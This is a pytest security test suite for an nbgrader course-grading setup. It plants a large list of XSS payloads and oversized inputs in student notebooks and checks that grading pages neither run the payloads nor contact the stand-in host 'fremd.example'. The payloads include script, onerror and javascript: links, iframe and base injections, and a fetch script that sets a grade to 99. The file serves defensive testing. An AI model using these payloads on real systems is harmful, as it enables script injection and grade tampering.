"""Nothing of a submission runs in the browser of whoever opens it: formgrader's own page, the feedback, the report, the marking desk.

One learner hands in known attacks in every place where a notebook can hold text; it is graded as a lecturer does it, and
opened in formgrader. The same notebook, put there uncleaned, shows that they would run.
"""

from __future__ import annotations

import base64
import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from nbgrader.api import Gradebook
from nbgrader.converters import GenerateAssignment, GenerateFeedback
from playwright.sync_api import Browser, Dialog, Page, Request

from browser.real_lab import ROOT, Lab, Notebook, jupyterlab, with_nbgrader
from handing_in import hand_in, submission
from kooperation.base import spreadsheet
from kooperation.desk.mark import lay_out_desk
from kooperation.grading.check import convert, course_settings
from kooperation.grading.class_run import ClassRun
from kooperation.grading.exchange.roster import take_roster
from kooperation.grading.objection import code
from kooperation.grading.report.command import report

SLUG = "dilemma"
HIT = "window.hits=(window.hits||0)+1;alert(1)"
FOREIGN = "fremd.example"
HOSTILE = ("boese", "ungereinigt", "boese2", "boese3", "boese4")  # of fewer nothing is reported
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'><script>{HIT}</script></svg>"
ENCODED = base64.b64encode(SVG.encode()).decode()
GRADE = (
    "<script>fetch(base_url+'/api/grades?submission_id='+submission_id).then(r=>r.json()).then(g=>"
    "fetch(base_url+'/api/grade/'+g[0].id,{method:'PUT',headers:{'X-CSRFToken':'x'},"
    "body:JSON.stringify({manual_score:99})}))</script>"
)
TEXTS = [
    f"<script>{HIT}</script>",
    f'<img src="x" onerror="{HIT}">',
    f"[hier]({'javascript:' + HIT.replace('(', '%28').replace(')', '%29')})",
    f'<a href="java&#115;cript:{HIT}">hier</a>',
    f"<a href='&#1;javascript:{HIT}'>hier</a>",
    f"[hier][da]\n\n[da]: javascript:{HIT}",
    f"<svg onload='{HIT}'><animate onbegin='{HIT}' attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>hier</text></a></svg>",
    f"<math><mtext></table></math><img src=x onerror={HIT!r}>",
    f"<math><maction actiontype='statusline' xlink:href='javascript:{HIT}'>x</maction></math>",
    f"<iframe srcdoc='<script>parent.hits=1;{HIT}</script>'></iframe>",
    f"<iframe src='https://{FOREIGN}/rahmen'></iframe>",
    f"<object data='data:text/html,<script>{HIT}</script>'></object>",
    f"<embed src='https://{FOREIGN}/eingebettet.swf'>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>Melden Sie sich an</div>",
    f"<style>body{{background:url(https://{FOREIGN}/stil.png)}}</style>",
    f"<link rel='stylesheet' href='https://{FOREIGN}/stil.css'>",
    f"<meta http-equiv='refresh' content='0;url=https://{FOREIGN}/weiter'>",
    f"<base href='https://{FOREIGN}/'>",
    f"<form action='https://{FOREIGN}/daten'><input name='kennwort' autofocus onfocus='{HIT}'></form>",
    f"<details open ontoggle='{HIT}'>auf</details>",
    f"<video autoplay src=x onerror='{HIT}'></video>",
    f"![Bild](https://{FOREIGN}/bild.png)",
    f"<img srcset='https://{FOREIGN}/satz.png 1x'>",
    f'[hier](https://a.example "x\\" onmouseover=\\"{HIT}")',
    f"| a |\n|---|\n| <img src=x onerror='{HIT}'> |",
    f"```mermaid\n</pre><script>{HIT}</script>\n```",
    f"```python <script>{HIT}</script>\nx\n```",
    f"<noscript><p title='</noscript><img src=x onerror={HIT!r}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={HIT!r}>'>",
    f"<!--<img src='--><img src=x onerror={HIT!r}//'>",
    f"$\\href{{javascript:{HIT}}}{{x}}$ und $\\unicode{{<img src=x onerror={HIT}>}}$",
    f"$x<img src=x onerror={HIT!r}>$",
    "[Noten](/formgrader/gradebook)",
    "<span class='full-credit btn' data-toggle='tooltip' id='begruendung'>Alle Punkte</span>",
    "# begruendung",
    GRADE,
]  # fmt: skip
NAME = (TEXTS[0], TEXTS[1])
HARMLESS = "Wenn a < b, dann lockt T:\n\n- **erstens** $T>R$\n- `x < y` in Größe\n\n```python\nif a < b: pass\n```"
CODE = f"""
from IPython.display import HTML, Javascript, SVG, display
display(HTML({TEXTS[1]!r})); display(Javascript({HIT!r})); display(SVG({SVG!r}))
class Schön:
    def _repr_html_(self): return {TEXTS[0]!r}
    def _repr_javascript_(self): return {HIT!r}
    def __repr__(self): return {TEXTS[1]!r}
print({TEXTS[0]!r})
def ist_gefangenendilemma(T, R, P, S):
    return {TEXTS[0]!r}
Schön()"""
OUTPUT = {
    "output_type": "display_data", "metadata": {"text/html": {"isolated": True}},
    "data": {
        "text/html": TEXTS[1], "image/svg+xml": SVG, "application/javascript": HIT, "text/latex": TEXTS[31],
        "text/markdown": TEXTS[0], "application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + TEXTS[0]},
    },
}  # fmt: skip


def hostile(path: Path) -> None:
    """Put the attacks into the notebook *path*: cells, attachments, outputs, metadata."""
    data = json.loads(path.read_text("utf-8"))
    breaking = '"><script>' + HIT + "</script>"
    data["metadata"] |= {
        "title": f"</title>{TEXTS[0]}",
        "language_info": {"name": "python", "pygments_lexer": breaking},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": "</script>" + TEXTS[0]}},
        "kooperation": {"unread": TEXTS[0], "mended": [TEXTS[1]], "edition": TEXTS[0]},
    }
    own: list[dict[str, Any]] = []
    for number, text in enumerate([*TEXTS, HARMLESS]):
        about = {"tags": [breaking], "name": breaking, "nbgrader": {"comment": TEXTS[0]}}
        own.append({"cell_type": "markdown", "id": f"b{number}", "metadata": about, "source": text})
    raw = {"raw_mimetype": "text/html", "format": "text/html"}
    own += [
        {"cell_type": "raw", "id": "r", "metadata": raw, "source": TEXTS[1]},
        {"cell_type": "markdown", "id": "a", "metadata": {}, "source": "![](attachment:x.svg)",
         "attachments": {"x.svg": {"image/svg+xml": ENCODED}}},
        {"cell_type": "markdown", "id": "c", "metadata": {}, "source": "![](attachment:x.png)",
         "attachments": {"x.png": {f'image/png" onerror="{HIT}" x="': "x", "image/png": f'x" onerror="{HIT}'}}},
        {"cell_type": "code", "id": "d", "metadata": {"tags": [breaking]}, "source": CODE,
         "execution_count": breaking, "outputs": [OUTPUT]},
        {"cell_type": "code", "id": breaking, "metadata": {}, "source": f"# {TEXTS[0]}", "outputs": [OUTPUT],
         "execution_count": None},
    ]  # fmt: skip
    ids = [cell["metadata"]["nbgrader"]["grade_id"] for cell in data["cells"]]
    data["cells"][ids.index("begruendung")]["source"] = "\n\n".join(TEXTS)
    data["cells"][ids.index("funktion-antwort")]["source"] = CODE
    data["cells"] += own
    path.write_text(json.dumps(data), "utf-8")


def endless(work: Path) -> None:
    """Fill the work with 0.6 MB wherever it takes text."""
    path, sheet = work / f"{SLUG}.ipynb", work / f"{SLUG}.answers.json"
    data = json.loads(path.read_text("utf-8"))
    ids = [cell["metadata"]["nbgrader"]["grade_id"] for cell in data["cells"]]
    data["cells"][ids.index("begruendung")]["source"] = "[*a `<b $x " * 60_000
    data["cells"][ids.index("funktion-antwort")]["source"] += "\n# a = (b, 'c')" * 40_000
    for number in range(30):
        source = "[a](" * 6_000
        cell = {"cell_type": "markdown", "id": f"e{number}", "metadata": {}, "source": source}
        data["cells"].append(cell)
    path.write_text(json.dumps(data), "utf-8")
    answers = json.loads(sheet.read_text("utf-8"))
    answers["answers"]["begruendung"] = "<b>" * 200_000
    sheet.write_text(json.dumps(answers), "utf-8")


@dataclass(frozen=True)
class Desk:
    """The lecturer's server, with the graded course in its folder."""

    lab: Lab

    def submission(self, who: str) -> str:
        with self.book() as book:
            found = book.find_submission_notebook(SLUG, SLUG, who).id
        return f"{self.lab.url}formgrader/submissions/{found}/?token={self.lab.token}"

    def grades(self) -> list[tuple[Any, ...]]:
        with self.book() as book:
            return [
                (entry.student.id, grade.name, grade.auto_score, grade.manual_score)
                for entry in book.assignment_submissions(SLUG)
                for notebook in entry.notebooks
                for grade in notebook.grades
            ]

    def book(self) -> Gradebook:
        return Gradebook(f"sqlite:///{self.lab.folder / 'gradebook.db'}")

    def graded(self, who: str) -> Path:
        return self.lab.folder / "autograded" / who / SLUG / f"{SLUG}.ipynb"


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    home = tmp_path_factory.mktemp("pult")
    (home / "config").mkdir()
    folder = home / "kurs"
    (home / "config" / "nbgrader_config.py").write_text(
        "from pathlib import Path\nfrom kooperation.grading.settings import configure\n"
        f"c = get_config()\nc.CourseDirectory.root = {str(folder)!r}\nconfigure(c, Path({str(folder)!r}))\n"
    )
    with jupyterlab(home, command=with_nbgrader) as lab:
        shutil.copytree(ROOT / "source" / SLUG, folder / "source" / SLUG)
        settings = course_settings(folder, SLUG)
        convert(GenerateAssignment, settings)
        start = folder / "course" / "lectures" / "00_start.ipynb"  # so the desk knows the course
        start.parent.mkdir(parents=True)
        shutil.copyfile(ROOT / "course" / "lectures" / "00_start.ipynb", start)
        for who in HOSTILE:
            work = hand_in(submission(SLUG, "model"), folder / "submitted" / who)
            hostile(work / f"{SLUG}.ipynb")
            answers = json.loads((work / f"{SLUG}.answers.json").read_text("utf-8"))
            answers["answers"]["begruendung"] = "\n".join(TEXTS)
            answers["answers"]["spielarten"]["a"] = TEXTS[0]
            (work / f"{SLUG}.answers.json").write_text(json.dumps(answers), "utf-8")
            (work / "seite.html").write_text(TEXTS[0])
        endless(hand_in(submission(SLUG, "model"), folder / "submitted" / "endlos"))
        people = [("Notenbuch", "Vorname", "Nachname"), *((who, *NAME) for who in HOSTILE)]
        (folder / "liste.csv").write_bytes(spreadsheet.written(people))
        list(take_roster(folder, folder / "liste.csv"))
        outcomes = ClassRun(settings).grade()
        assert not any(outcome.problem for outcome in outcomes), outcomes
        convert(GenerateFeedback, settings)
        report(folder, SLUG)
        yield Desk(lab)


@dataclass
class Seen:
    """What a page did: questions it put up, and addresses elsewhere that it asked for."""

    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)


@pytest.fixture
def watched(browser: Browser) -> Iterator[tuple[Page, Seen]]:
    """A page without network that notes what it does."""
    context = browser.new_context()
    page, seen = context.new_page(), Seen()

    def refuse(dialog: Dialog) -> None:
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    def note(request: Request) -> None:
        is_grade = "/api/grade/" in request.url and request.method != "GET"
        if FOREIGN in request.url or is_grade:
            seen.foreign.append(request.url)

    page.on("dialog", refuse)
    page.on("request", note)
    page.route(
        "**/*", lambda route: route.continue_() if _is_here(route.request.url) else route.abort()
    )
    yield page, seen
    context.close()


def _is_here(url: str) -> bool:
    return url.startswith(("http://127.0.0.1", "http://localhost", "file:", "data:"))


def open_and_use(page: Page, address: str) -> None:
    """Open *address*, wait, and follow every link of the learner's that does not lead elsewhere."""
    page.goto(address, wait_until="load")
    page.wait_for_timeout(1500)
    page.evaluate(
        """() => document.querySelectorAll("a").forEach((link) => {
             const to = link.getAttribute("href") || link.getAttribute("xlink:href") || "";
             if (/script:|data:/i.test(to)) link.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
           })"""
    )
    page.wait_for_timeout(500)


LEARNERS = ".rendered_html, .output_area, .input_area, .frage"


def test_in_formgrader_nothing_of_a_submission_runs_or_asks_elsewhere_or_grades(
    desk: Desk, watched: tuple[Page, Seen]
) -> None:
    page, seen = watched
    before = desk.grades()
    open_and_use(page, desk.submission("boese"))
    assert page.locator("input.score").count() == 6
    assert not seen.dialogs
    assert not seen.foreign
    assert page.evaluate("window.hits") is None
    assert desk.grades() == before
    inside = page.locator(
        ":is(.rendered_html, .output_area) :is(script, iframe, object, embed, form, meta, base, link, style, svg, math, video)"
    )
    assert inside.count() == 0
    hrefs = page.eval_on_selector_all(
        ".rendered_html a", "(links) => links.map((link) => link.getAttribute('href'))"
    )
    assert all(href.startswith(("http", "#", "..")) for href in hrefs), hrefs


def test_in_formgrader_the_marker_reads_letter_by_letter_what_was_written(
    desk: Desk, watched: tuple[Page, Seen]
) -> None:
    page, _ = watched
    page.goto(desk.submission("boese"))
    text = page.locator("#notebook-container").first.inner_text()
    for written in TEXTS:
        assert " ".join(written.split()) in " ".join(text.split()), written
    item = page.locator(".rendered_html li", has_text="erstens")
    assert "erstens" in item.locator("strong").inner_text()
    assert page.locator(".rendered_html code", has_text="x < y").count() == 1
    assert "Wenn a < b, dann lockt T:" in text
    assert page.locator("[id='begruendung']").evaluate_all(
        "(all) => all.map((one) => one.tagName)"
    ) == ["INPUT"]


def test_the_same_notebook_uncleaned_does_run_so_that_these_tests_can_fail(
    desk: Desk, watched: tuple[Page, Seen]
) -> None:
    page, seen = watched
    target = desk.graded("ungereinigt")
    target.chmod(0o644)
    data = json.loads(target.read_text("utf-8"))
    for number, text in enumerate(TEXTS[:2] + TEXTS[22:23]):
        cell = {"cell_type": "markdown", "id": f"z{number}", "metadata": {}, "source": text}
        data["cells"].append(cell)
    target.write_text(json.dumps(data), "utf-8")
    open_and_use(page, desk.submission("ungereinigt"))
    assert len(seen.dialogs) == 2
    assert [url for url in seen.foreign if url.endswith("bild.png")]


def open_alone(page: Page, seen: Seen, path: Path) -> None:
    """Open the page at *path* and use it: nothing in it runs, and it asks for nothing but itself."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    open_and_use(page, path.as_uri())
    assert not seen.dialogs
    assert {url for url in asked if not url.startswith("data:")} == {path.as_uri()}
    assert page.evaluate("window.hits") is None


def test_on_the_feedback_page_nothing_of_a_submission_runs_or_asks_elsewhere(
    desk: Desk, watched: tuple[Page, Seen]
) -> None:
    page, seen = watched
    path = desk.lab.folder / "feedback" / "boese" / SLUG / f"{SLUG}.html"
    open_alone(page, seen, path)
    assert (
        page.locator("main :is(script, iframe, object, embed, form, style, svg, video)").count()
        == 0
    )
    text = " ".join(page.locator("main").inner_text().split())
    assert "if a < b: pass" in text
    assert "Alle Punkte</span>" in text
    assert page.locator("math").count()  # T > R, from the harmless one


def test_whatever_got_onto_the_feedback_page_its_policy_lets_nothing_of_it_run_or_load(
    desk: Desk, watched: tuple[Page, Seen], tmp_path: Path
) -> None:
    page, seen = watched
    path = desk.lab.folder / "feedback" / "boese" / SLUG / f"{SLUG}.html"
    html = path.read_text("utf-8")
    assert "<script" not in html.partition("</head>")[0]
    forced = tmp_path / "seite.html"
    forced.write_text(
        html.replace("</main>", "\n".join([*TEXTS[:2], TEXTS[11], TEXTS[22], "</main>"]))
    )
    open_and_use(page, forced.as_uri())
    assert not seen.dialogs
    assert page.evaluate("window.hits") is None
    shown = page.locator("h1.titel").evaluate("(title) => getComputedStyle(title).marginTop")
    assert shown == "0px"  # our own style still counts


def test_on_the_report_nothing_of_what_was_written_is_told_or_runs(
    desk: Desk, watched: tuple[Page, Seen]
) -> None:
    page, seen = watched
    path = desk.lab.folder / "auswertung" / f"{SLUG}.html"
    open_alone(page, seen, path)
    assert page.locator("body :is(script, iframe, object, embed, form, img, video)").count() == 0
    text = page.locator("body").inner_text()
    assert "Ihre Funktion gibt str zurück" in text  # what five returned was an attack
    assert not any(written in text for written in (*TEXTS[:2], "onerror"))


@pytest.mark.nightly
def test_at_the_marking_desk_texts_and_names_are_read_letter_by_letter_and_run_nothing(
    desk: Desk, watched: tuple[Page, Seen]
) -> None:
    page, seen = watched
    page.set_default_timeout(90_000)
    before = desk.grades()
    notebook = lay_out_desk(desk.lab.folder, SLUG, code(SLUG, "begruendung", "boese"))
    Notebook.open(page, desk.lab, notebook).run_all()
    shown = page.locator(".kooperation-desk")
    text = " ".join(shown.locator(".kooperation-as-typed").inner_text().split())
    for written in TEXTS:
        assert " ".join(written.split()) in text, written
    assert "Von ‹script›window.hits" in shown.inner_text()
    shown.locator(".kooperation-title").click()
    for _ in HOSTILE:
        page.keyboard.press("ArrowRight")
        page.wait_for_timeout(500)
    page.evaluate(
        "() => document.querySelectorAll('.kooperation-desk summary').forEach((one) => one.click())"
    )
    page.wait_for_timeout(500)
    assert not seen.dialogs
    assert not seen.foreign
    assert page.evaluate("window.hits") is None
    inside = ":is(script, iframe, object, embed, form, img, video, svg, math)"
    assert shown.locator(f".kooperation-as-typed {inside}").count() == 0
    assert desk.grades() == before


@pytest.mark.nightly
def test_texts_without_end_are_cut_say_so_and_hang_no_page(
    desk: Desk, watched: tuple[Page, Seen]
) -> None:
    page, _ = watched
    feedback = desk.lab.folder / "feedback" / "endlos" / SLUG / f"{SLUG}.html"
    assert feedback.stat().st_size < 3_000_000
    for address in (feedback.as_uri(), desk.submission("endlos")):
        page.goto(address, wait_until="load", timeout=30_000)
        assert page.get_by_text("Zeichen, gezeigt werden die ersten").count() > 2
    with desk.book() as book:
        grades = book.find_submission_notebook(SLUG, SLUG, "endlos").grades
        assert {g.name: g.auto_score for g in grades}["funktion"] == 2


def test_pages_in_a_submission_are_not_kept_where_the_server_would_show_them(desk: Desk) -> None:
    assert (desk.lab.folder / "submitted" / "boese" / SLUG / "seite.html").is_file()
    there = {path.name for path in desk.graded("boese").parent.iterdir()}
    assert there == {f"{SLUG}.ipynb", f"{SLUG}.answers.json"}
